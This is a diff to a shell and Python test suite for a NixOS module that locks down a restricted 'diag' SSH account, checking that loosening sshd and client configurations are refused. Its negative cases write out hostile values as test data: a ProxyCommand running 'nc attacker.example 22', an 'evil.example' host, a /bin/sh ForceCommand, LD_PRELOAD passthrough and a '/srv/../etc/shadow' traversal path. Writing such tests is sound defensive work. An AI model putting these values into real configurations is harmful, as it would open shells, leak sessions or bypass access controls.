@@ -94,6 +94,9 @@ export WRAPPER_STUB KEY_CI KEY_ONCALL FP_CI FP_ONCALL SRC TMP
 EXPECTED_BLOCK="Match User diag
   AuthorizedKeysFile /etc/ssh/authorized_keys.d/%u
   AuthorizedKeysCommand none
+  AuthorizedPrincipalsFile none
+  AuthorizedPrincipalsCommand none
+  TrustedUserCAKeys none
   AuthenticationMethods publickey
   ForceCommand $WRAPPER_STUB
   DisableForwarding yes
@@ -105,6 +108,7 @@ EXPECTED_BLOCK="Match User diag
   PermitTTY no
   PermitUserRC no
   ExposeAuthInfo yes
+  LogLevel VERBOSE
 Match all
 "
 export EXPECTED_BLOCK
@@ -152,6 +156,10 @@ want_diag = [
     "authorizedkeysfile /etc/ssh/authorized_keys.d/%u",
     "authorizedkeyscommand none",
     "authenticationmethods publickey",
+    "trustedusercakeys none",
+    "authorizedprincipalsfile none",
+    "authorizedprincipalscommand none",
+    "loglevel VERBOSE",
     "clientalivecountmax 7",      # a global line written after the block applies to diag too
     "clientaliveinterval 120",
 ]
@@ -164,7 +172,9 @@ want_alice = [
 ]
 if os.environ["NEIGHBOURS"] == "1":
     want_alice += ["authorizedkeyscommand /usr/local/bin/neighbour-keys %u",
-                   "authenticationmethods password publickey"]
+                   "authenticationmethods password publickey",
+                   "trustedusercakeys /etc/ssh/neighbour-ca.pub",
+                   "loglevel ERROR"]
 else:
     want_alice += ["authenticationmethods any"]
 bad = [f"diag: missing {l!r}" for l in want_diag if l not in diag]
@@ -284,11 +294,63 @@ PY
                 if out=$(bash "$SRC/nix/sshd-check.sh" --sshd "$SSHD" --config "$TMP/final_sshd_config" "${args[@]}" 2>&1); then
                     fail "build-time sshd check accepted a config with a loosening block before the $user block: $out"
                 fi
-                grep -q "a Match block before the $user block sets it" <<<"$out" || fail "unexpected sshd check failure: $out"
+                grep -q "'Match Address 192.0.2.0/24' comes before the $user block" <<<"$out" || fail "unexpected sshd check failure: $out"
                 say "a loosening block placed before the $user block fails the build: $out"
             fi
         done
     done
+
+    # final_config_and_args MODULE_JSON: the final sshd_config and the sshd check's arguments.
+    final_config_and_args() {
+        python3 - "$1" "$TMP/final_sshd_config" "$TMP/check_args" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+c = {c["name"]: c for c in d["buildChecks"]}["diag-wrapper-sshd-check"]
+open(sys.argv[2], "w").write(d["sshdConfigFile"])
+open(sys.argv[3], "w").write("\n".join(c["passthru"]["checkArgs"]) + "\n")
+PY
+        mapfile -t args <"$TMP/check_args"
+    }
+
+    # 4. What the values asked cannot show: the file itself. Each EXTRA-MODULE|EXPECTED-ERROR: a
+    #    line placed in extraConfig (the assertions refuse these too; the build-time check must
+    #    refuse them on its own, for what reaches sshd_config some other way).
+    local loosen='\n  PermitTTY yes\n  DisableForwarding no\n  ForceCommand /bin/sh\n  AuthorizedKeysFile .ssh/authorized_keys\nMatch all\n'
+    local case extra want
+    for case in \
+        "lib.mkOrder (-2000) \"Include /etc/ssh/sshd_config.d/*.conf\\n\"|'Include /etc/ssh/sshd_config.d/\\*.conf': the included files are not part of the build" \
+        "lib.mkAfter \"Include /etc/ssh/sshd_config.d/*.conf\\n\"|'Include /etc/ssh/sshd_config.d/\\*.conf'" \
+        "lib.mkOrder (-2000) \"Match LocalAddress 10.0.0.0/8$loosen\"|'Match LocalAddress 10.0.0.0/8' comes before the diag block" \
+        "lib.mkOrder (-2000) \"Match LocalPort 2222$loosen\"|'Match LocalPort 2222' comes before the diag block" \
+        "lib.mkOrder (-2000) \"Match Host 192.0.2.*$loosen\"|'Match Host 192.0.2.\\*' comes before the diag block" \
+        "lib.mkOrder (-2000) \"Match RDomain *$loosen\"|'Match RDomain \\*' comes before the diag block" \
+        "lib.mkOrder (-2000) \"  match=group wheel$loosen\"|'Match group wheel' comes before the diag block" \
+        "lib.mkAfter \"AcceptEnv LANG LC_*\\n\"|gets 'acceptenv LANG acceptenv LC_\\*': it reaches the wrapper's environment" \
+        "lib.mkAfter \"Match Address 192.0.2.0/24\\n  AcceptEnv LD_PRELOAD\\nMatch all\\n\"|addr=192.0.2.10,.*gets 'acceptenv LD_PRELOAD'" \
+        "lib.mkAfter \"Match Address 10.0.0.0/8\\n  SetEnv LD_LIBRARY_PATH=/tmp\\nMatch all\\n\"|gets 'setenv LD_LIBRARY_PATH=/tmp'" \
+        "lib.mkAfter \"PermitUserEnvironment yes\\n\"|gets 'permituserenvironment yes', not 'permituserenvironment no'"; do
+        extra="{ lib, ... }: { services.openssh.extraConfig = ${case%%|*}; }"
+        want=${case#*|}
+        nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr hostKey "$TMP/hostkey" --argstr scenario minimal \
+            --arg extra "$extra" >"$TMP/module.json" 2>"$TMP/err" || fail "evaluating the module with $extra: $(cat "$TMP/err")"
+        final_config_and_args "$TMP/module.json"
+        if out=$(bash "$SRC/nix/sshd-check.sh" --sshd "$SSHD" --config "$TMP/final_sshd_config" "${args[@]}" 2>&1); then
+            fail "build-time sshd check accepted ${case%%|*}: $out"
+        fi
+        grep -qE -- "$want" <<<"$out" || fail "${case%%|*}: expected /$want/ in: $out"
+        say "build fails for ${case%%|*}: ${out#sshd-check: FAIL: }"
+    done
+
+    # Ports and local addresses come from the file: a ListenAddress with its own port is asked.
+    extra='{ lib, ... }: { services.openssh.extraConfig = lib.mkAfter "ListenAddress 0.0.0.0:2222\nListenAddress [::1]:2200\n"; }'
+    nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --argstr hostKey "$TMP/hostkey" --argstr scenario minimal \
+        --arg extra "$extra" >"$TMP/module.json" || fail "evaluating the module with ListenAddress"
+    final_config_and_args "$TMP/module.json"
+    out=$(bash "$SRC/nix/sshd-check.sh" --sshd "$SSHD" --config "$TMP/final_sshd_config" "${args[@]}" 2>&1) \
+        || fail "build-time sshd check refuses ListenAddress lines: $out"
+    grep -qF "(ports 2222 2200 22; local addresses ::1 192.0.2.1 2001:db8::1;" <<<"$out" \
+        || fail "the sshd check does not ask the ListenAddress ports and addresses: $out"
+    say "ListenAddress ports and addresses are asked: $out"
 }
 
 # ------------------------------------------------------------------------------------------------
@@ -635,7 +697,7 @@ if not any(sys.argv[2] in m for m in msgs):
     expect_assertion "lists a sink twice" '{ lib, ... }: { services.diag-wrapper.audit.sinks = lib.mkForce [ "journald" "journald" ]; }'
     expect_assertion "policy.audit is set directly" '{ services.diag-wrapper.policy.audit.sinks = [ "syslog" ]; }'
     expect_assertion "may contain only version, deny and command" '{ services.diag-wrapper.dropIns.extra.settings.timeout = "1s"; }'
-    expect_assertion "does not list it" '{ lib, ... }: { services.diag-wrapper.policy.settings.include = lib.mkForce [ ]; }'
+    expect_assertion "settings.include must be [ \"/etc/diag-wrapper/policy.d\" ] (it is [])" '{ lib, ... }: { services.diag-wrapper.policy.settings.include = lib.mkForce [ ]; }'
     expect_assertion "without . or .. components" '{ services.diag-wrapper.extraDenyPaths = [ "/srv/../etc/shadow" ]; }'
     expect_assertion "without . or .. components" '{ services.diag-wrapper.extraDenyPaths = [ "relative/path" ]; }'
     expect_assertion "ASCII only" "{ services.diag-wrapper.extraCommands.cafe = { match = [ \"cafe\" ]; description = \"caf"$'\xc3\xa9'"\"; }; }"
@@ -648,15 +710,40 @@ if not any(sys.argv[2] in m for m in msgs):
     expect_assertion "AllowGroups (wheel users) lists none of its groups (diag systemd-journal)" '{ services.openssh.settings.AllowGroups = [ "wheel" "users" ]; }'
     expect_assertion "DenyUsers (root d*) matches diag" '{ services.openssh.settings.DenyUsers = [ "root" "d*" ]; }'
     expect_assertion "DenyGroups (systemd-journal) matches its group systemd-journal" '{ services.openssh.settings.DenyGroups = [ "systemd-journal" ]; }'
+    expect_assertion "DenyUsers (root diag@*) matches diag" '{ services.openssh.settings.DenyUsers = [ "root" "diag@*" ]; }'
+    expect_assertion "DenyUsers (d?ag) matches diag" '{ services.openssh.extraConfig = "DenyUsers d?ag\n"; }'
+    expect_assertion "AllowUsers (alice bob) does not list diag" '{ lib, ... }: { services.openssh.extraConfig = lib.mkAfter "Match Address 10.0.0.0/8\n  AllowUsers diag\nMatch all\nAllowUsers alice\nAllowUsers bob\n"; }'
+    expect_assertion "AllowGroups (wheel) lists none of its groups" '{ services.openssh.extraConfig = "AllowGroups=wheel\n"; }'
     expect_assertion 'environment.etc."diag-wrapper/policy.toml" is replaced' '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".source = lib.mkForce "/etc/my-policy.toml"; }'
     expect_assertion 'environment.etc."diag-wrapper/policy.toml" is replaced' '{ lib, ... }: { environment.etc."diag-wrapper/policy.toml".text = lib.mkForce "version = 1\n"; }'
     expect_assertion 'environment.etc."diag-wrapper/policy.d/50-host.toml" is replaced' '{ lib, ... }: { environment.etc."diag-wrapper/policy.d/50-host.toml".text = lib.mkForce "version = 1\n"; }'
+    # What the wrapper would load but the build-time policy check would not read.
+    expect_assertion 'environment.etc."diag-wrapper/policy.d/60-extra.toml" is not written by the module' '{ environment.etc."diag-wrapper/policy.d/60-extra.toml".text = "version = 1\n[command.cat]\nmatch = [\"cat\"]\ndescription = \"again\"\n"; }'
+    expect_assertion 'environment.etc."diag-wrapper/extra.toml" is not written by the module' '{ environment.etc."diag-wrapper/extra.toml".source = "/srv/extra.toml"; }'
+    expect_assertion '(it is ["/etc/diag-wrapper/policy.d","/var/lib/diag-wrapper/policy.d"])' '{ lib, ... }: { services.diag-wrapper.policy.settings.include = lib.mkForce [ "/etc/diag-wrapper/policy.d" "/var/lib/diag-wrapper/policy.d" ]; }'
+    # The account's key file, replaced or loosened behind users.users.
+    local keys_etc='environment.etc."ssh/authorized_keys.d/diag" is not the file the openssh module generates'
+    expect_assertion "$keys_etc" '{ lib, ... }: { environment.etc."ssh/authorized_keys.d/diag".text = lib.mkForce "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop\n"; }'
+    expect_assertion "$keys_etc" '{ lib, ... }: { environment.etc."ssh/authorized_keys.d/diag".source = lib.mkForce "/etc/ssh/my-keys"; }'
+    expect_assertion "$keys_etc" '{ lib, ... }: { environment.etc."ssh/authorized_keys.d/diag".mode = lib.mkForce "0644"; }'
+    expect_assertion "$keys_etc" '{ environment.etc."ssh/authorized_keys.d/diag".user = "diag"; }'
+    expect_assertion "$keys_etc" '{ lib, ... }: { services.diag-wrapper.authorizedKeys = lib.mkForce [ ]; environment.etc."ssh/authorized_keys.d/diag".text = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMAzmp5 me@laptop\n"; }'
+    # sshd_config lines read before the diag block, or from files the build never sees.
+    expect_assertion "services.openssh.settings sets Include: the openssh module writes settings before extraConfig" '{ services.openssh.settings.Include = "/etc/ssh/sshd_config.d/*.conf"; }'
+    expect_assertion "services.openssh.settings sets match:" '{ services.openssh.settings.match = "Address 192.0.2.0/24"; }'
+    expect_assertion "extraConfig has Include /etc/ssh/sshd_config.d/*.conf: the included files are not part of the build" '{ services.openssh.extraConfig = "  include /etc/ssh/sshd_config.d/*.conf\n"; }'
+    expect_assertion "extraConfig has Match LocalPort 2222; Match all before the diag Match block" '{ lib, ... }: { services.openssh.extraConfig = lib.mkOrder (-2000) "Match LocalPort 2222\n  PermitTTY yes\nMatch all\n"; }'
+    expect_assertion "extraConfig has Match Address 192.0.2.0/24 before the diag Match block" '{ lib, ... }: { services.openssh.extraConfig = lib.mkOrder (-1001) "\"Match\"=Address 192.0.2.0/24\n  PermitTTY yes\n"; }'
+    expect_assertion "the diag Match block is missing" '{ lib, ... }: { services.openssh.extraConfig = lib.mkForce "UsePAM yes\n"; }'
     say "$n impossible combinations refused with the expected message"
 
     # ... and what they must let through: filters that admit the account, keys the module wrote.
     local ok
     for ok in '{ services.openssh.settings = { AllowUsers = [ "alice" "d?ag@10.0.0.0/8" ]; AllowGroups = [ "systemd-*" ]; DenyUsers = [ "diag@203.0.113.9" "root" ]; DenyGroups = [ "!diag" "wheel" ]; }; }' \
-              '{ services.openssh.settings.AllowUsers = [ "*" ]; }'; do
+              '{ services.openssh.settings.AllowUsers = [ "*" ]; }' \
+              '{ services.openssh.settings.AllowUsers = [ "diag@*" ]; }' \
+              '{ services.openssh.settings.AllowUsers = [ "alice" ]; services.openssh.extraConfig = "AllowUsers diag\n"; }' \
+              '{ services.openssh.extraConfig = "Match Address 203.0.113.0/24\n  DenyUsers diag\nMatch all\n"; }'; do
         out=$(nix_json "$SRC/nix/checks/eval-module.nix" --argstr libPath "$LIB" --arg extra "$ok" 2>&1) \
             || fail "evaluating $ok: $out"
         python3 -c 'import json, sys; m = json.loads(sys.argv[1])["failedAssertions"]; sys.exit(f"FAIL: {sys.argv[2]}: {m}" if m else 0)' "$out" "$ok" || exit 1
@@ -841,6 +928,38 @@ PY
         done
     done
     say "$n home-manager configurations evaluated$(command -v ssh >/dev/null 2>&1 && echo ' and checked with ssh -G (User diag, IdentitiesOnly yes, the diag key first)')"
+
+    # Written before every block, so they beat the diag block: extraOptionOverrides that decide
+    # the connection are refused; includes (files nothing can read at evaluation) get a warning.
+    # EXTRA-MODULE|assertion or warning|EXPECTED-SUBSTRING
+    local case kind want
+    for case in \
+        '{ programs.ssh.extraOptionOverrides.User = "alice"; }|assertion|extraOptionOverrides sets User;' \
+        '{ programs.ssh.extraOptionOverrides = { IdentityFile = "~/.ssh/id_personal"; identitiesonly = "no"; }; }|assertion|sets IdentityFile, identitiesonly;' \
+        '{ programs.ssh.extraOptionOverrides.ProxyCommand = "nc attacker.example 22"; }|assertion|sets ProxyCommand;' \
+        '{ programs.ssh.extraOptionOverrides.ControlPath = "~/.ssh/cm-%h"; }|assertion|sets ControlPath;' \
+        '{ programs.ssh.extraOptionOverrides = { RemoteCommand = "sh"; LocalCommand = "id"; Hostname = "evil.example"; Port = "2222"; }; }|assertion|sets Hostname, LocalCommand, Port, RemoteCommand;' \
+        '{ programs.ssh.extraOptionOverrides = { ControlPath = "~/.ssh/cm-%C"; ControlMaster = "auto"; ServerAliveInterval = "30"; }; }|none|' \
+        '{ programs.ssh.includes = [ "~/.orbstack/ssh/config" ]; }|warning|programs.ssh.includes (~/.orbstack/ssh/config) is written before every'; do
+        kind=${case#*|}; want=${kind#*|}; kind=${kind%%|*}
+        nix_json "$SRC/nix/checks/eval-home-manager.nix" --argstr libPath "$LIB" --argstr hmPath "$hm" \
+            --arg extra "${case%%|*}" >"$TMP/hm.json" 2>"$TMP/err" \
+            || fail "evaluating the home-manager module with ${case%%|*}: $(cat "$TMP/err")"
+        python3 - "$TMP/hm.json" "$kind" "$want" "${case%%|*}" <<'PY' || exit 1
+import json, sys
+d = json.load(open(sys.argv[1]))
+kind, want, label = sys.argv[2:5]
+failed = d["failedAssertions"]
+warned = [w for w in d["warnings"] if "programs.diag-client" in w]
+if kind == "assertion" and not any(want in m for m in failed):
+    sys.exit(f"FAIL: {label}: expected an assertion containing {want!r}, got {failed}")
+if kind == "warning" and (failed or not any(want in w for w in warned)):
+    sys.exit(f"FAIL: {label}: expected only a warning containing {want!r}, got {failed} {warned}")
+if kind == "none" and (failed or warned):
+    sys.exit(f"FAIL: {label}: expected to pass, got {failed} {warned}")
+print(f"{label}: {kind} {'as expected' if kind != 'none' else 'passes'}")
+PY
+    done
 }
 
 case $CHECK in
